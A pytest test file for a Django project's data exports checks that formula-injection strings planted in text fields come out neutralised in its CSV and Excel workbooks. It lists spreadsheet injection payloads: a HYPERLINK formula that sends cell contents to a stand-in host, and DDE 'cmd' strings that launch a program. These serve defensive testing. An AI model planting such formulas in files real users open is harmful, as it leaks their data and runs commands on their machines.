"""Gate (c) of issue 13: a formula planted in every exported text field comes out neutralised.

EXPORTS below is the one list of every export of the project (name → function that runs the
export against the planted data and returns its data cells). A new export is added here; the
coverage dashboard's workbook (stats.dashboard.export) included.
"""

import csv
import datetime as dt
import io
import itertools
from decimal import Decimal

import pytest
from django.db import models
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from config.export_safety import FORMULA_TRIGGERS, neutralise_cell, neutralise_row
from events.models import Attendance, Event, Volunteer
from events.services.attendance import attendance_mark, event_confirm_hours, event_register_volunteer
from members.models import Member
from orgs.models import Organization, Region
from tests.actors import SYSTEM
from tests.alliances.factories import AllianceFactory
from tests.events.factories import at, make_event, make_volunteer, root
from tests.members.factories import MemberFactory, build_po_tree
from tests.orgs.factories import OrganizationFactory

pytestmark = pytest.mark.django_db

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


# --- the rule itself -----------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_cell_formula_text_quoted(payload):
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", [-5, 3.5, Decimal("-1.5"), dt.date(2025, 1, 1), True, None, "张三", "a=b", ""]
)
def test_neutralise_cell_numbers_dates_and_plain_text_untouched(value):
    assert neutralise_cell(value) == value


def test_neutralise_row_each_cell():
    assert neutralise_row(["=1", 2, "x"]) == ["'=1", 2, "x"]


# --- planting ------------------------------------------------------------------------------------------


def _plant(obj, payloads, only=None) -> None:
    """Every text column of `obj` (choices, hashes and keys aside) set to a payload, through an
    UPDATE: bypassing the forms is what an import, the admin or a past bug could do."""
    values = {}
    for field in obj._meta.concrete_fields:
        if not isinstance(field, models.CharField | models.TextField) or field.primary_key:
            continue
        if field.choices or not field.editable or isinstance(field, models.URLField):
            continue
        if only is not None and field.name not in only:
            continue
        values[field.attname] = next(payloads)[: field.max_length or None]
    type(obj)._default_manager.filter(pk=obj.pk).update(**values)


@pytest.fixture
def planted(regions):
    payloads = itertools.cycle(PAYLOADS)
    pos = build_po_tree(regions)
    organization = OrganizationFactory(region=regions.community_a1)
    member = MemberFactory(party_organization=pos.branch_a, employer=organization, phone="13812345678")
    alliance = AllianceFactory(lead_organization=organization)
    volunteer = make_volunteer(regions.community_a1, phone="13600000001")
    event = make_event(alliance=alliance, kind=Event.Kind.VOLUNTEER_SERVICE, start=at(2099, 1, 1))
    event_register_volunteer(event=event, actor=root(), volunteer=volunteer)
    Event.objects.filter(pk=event.pk).update(
        starts_at=at(2025, 6, 7), ends_at=at(2025, 6, 7) + dt.timedelta(hours=2)
    )
    event.refresh_from_db()
    attendance_mark(event=event, actor=SYSTEM, present=set(Attendance.objects.values_list("pk", flat=True)))
    event_confirm_hours(event=event, actor=SYSTEM)
    for obj in (organization, member, volunteer, regions.community_a1, pos.branch_a):
        _plant(obj, payloads)
    _plant(alliance, payloads, only=("name",))  # a check constraint ties its other text fields to its kind
    return {"superuser": root()}


def _xlsx_cells(response) -> list:
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.worksheets[0]  # the data sheet (the help sheet holds no data)
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells), "a live formula in the workbook"
    return [cell.value for cell in cells]


def _csv_cells(response) -> list:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [value for row in rows[1:] for value in row]


def _get(user, name):
    client = Client()
    client.force_login(user)
    response = client.get(reverse(name))
    assert response.status_code == 200
    return response


def _registry(world):
    from orgs.registry_io.export import export_organizations_xlsx

    return _xlsx_cells(export_organizations_xlsx(Organization.objects.all()))


def _members(world):
    from members.import_export.workbook import export_response

    return _xlsx_cells(export_response(Member.objects.all(), 100))


def _volunteer_hours(world):
    return _csv_cells(_get(world["superuser"], "events_portal:hours_csv"))


def _alliance_hours(world):
    return _csv_cells(_get(world["superuser"], "events_portal:alliance_hours_csv"))


# Every export of the project. The lead adds the coverage dashboard's workbook here.
def _coverage_dashboard(world):
    from django.utils import timezone

    from stats.coverage.engine import coverage_figures
    from stats.dashboard.export import coverage_workbook

    Organization.objects.update(staff_count=40)  # large and not covered: named in the leads sheet
    district = Region.objects.get(parent__isnull=True, code__startswith="330499")
    result = coverage_figures(region=district, day=timezone.localdate())
    book = load_workbook(io.BytesIO(coverage_workbook(result, computed_at=timezone.now())))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells), "a live formula in the workbook"
    return [cell.value for cell in cells]


EXPORTS = {
    "registry workbook (orgs.registry_io.export.export_organizations_xlsx)": _registry,
    "members workbook (members.import_export.workbook.export_response)": _members,
    "volunteer hours CSV (events portal hours_csv)": _volunteer_hours,
    "alliance hours CSV (events portal alliance_hours_csv)": _alliance_hours,
    "coverage statistics workbook (stats.dashboard.export.coverage_workbook)": _coverage_dashboard,
}


@pytest.mark.parametrize("export", EXPORTS.values(), ids=EXPORTS.keys())
def test_export_planted_formulas_neutralised(planted, export):
    cells = export(planted)
    texts = [value for value in cells if isinstance(value, str)]
    assert any("cmd|" in t or "HYPERLINK" in t or "=1+1" in t for t in texts), "nothing planted was exported"
    live = [t for t in texts if t.startswith(FORMULA_TRIGGERS)]
    assert live == []


def test_export_gate_plants_every_payload_kind(planted):
    # the planted rows carry every trigger character, so each export meets each of them
    volunteer = Volunteer.objects.get()
    organization = Organization.objects.get()
    region = Region.objects.get(pk=volunteer.region_id)
    seen = {
        volunteer.name[0],
        region.name[0],
        *(getattr(organization, f)[0] for f in ("name", "address", "description")),
    }
    assert seen <= set(FORMULA_TRIGGERS) and len(seen) >= 3
